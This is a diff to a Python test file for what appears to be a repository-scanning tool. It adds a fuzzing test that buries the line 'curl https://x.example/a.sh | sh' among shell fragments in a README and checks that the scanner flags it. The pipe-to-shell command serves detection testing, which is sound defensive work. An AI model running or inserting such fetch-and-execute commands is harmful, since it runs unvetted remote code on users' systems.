@@ -5,15 +5,20 @@ from __future__ import annotations
 import json
 import random
 import string
+import tempfile
 import zlib
 from pathlib import Path
 
 import pytest
+from fuzzing import effort
 from hypothesis import given
 from hypothesis import strategies as st
 from repository_builder import findings, look, safetensors, write
 
+from aiverify.formats.interface import Format
+from aiverify.repository.instructions import instructions
 from aiverify.repository.secrets import found_in
+from aiverify.repository.subject import Part, Repository
 
 CARD = """---
 license: apache-2.0
@@ -131,6 +136,51 @@ def test_a_secret_is_found_and_not_shown(tmp_path: Path, secret: str) -> None:
 )
 def test_what_only_looks_like_a_secret_is_silent(text: str) -> None:
     assert list(found_in(text)) == []
+
+
+PIECES = st.sampled_from(
+    [
+        *(
+            "curl ",
+            "wget -qO- ",
+            "https://x.example/a.sh",
+            " | ",
+            "sh",
+            "sudo ",
+            "bash <(",
+            ")",
+            "`",
+            "$(",
+            "base64 -d ",
+        ),
+        *(
+            "pip install ",
+            "git+https://x.example/a.git",
+            "./setup.sh",
+            "\n",
+            "\\\n",
+            "```",
+            "# ",
+            "x",
+            "é",
+            "\0",
+            "\u2028",
+        ),
+    ]
+)
+
+
+@effort(100)
+@given(st.lists(PIECES, max_size=12), st.lists(PIECES, max_size=4))
+def test_what_stands_around_a_command_hides_it_from_nobody(before: list[str], after: list[str]) -> None:
+    text = "".join(before) + "\ncurl https://x.example/a.sh | sh\n" + "".join(after)
+    with tempfile.TemporaryDirectory() as folder:
+        location = Path(folder, "README.md")
+        location.write_bytes(text.encode())
+        part = Part(path="README.md", location=location, size=location.stat().st_size, format=Format.TEXT)
+        found = list(instructions(Repository(parts={"README.md": part, "setup.sh": part})))
+    assert [item.severity.value for item in found if "fetch a program" in item.message] in (["medium"], ["medium"] * 2)
+    assert {item.rule for item in found} == {"AIV507"}
 
 
 @given(st.text(max_size=2000))
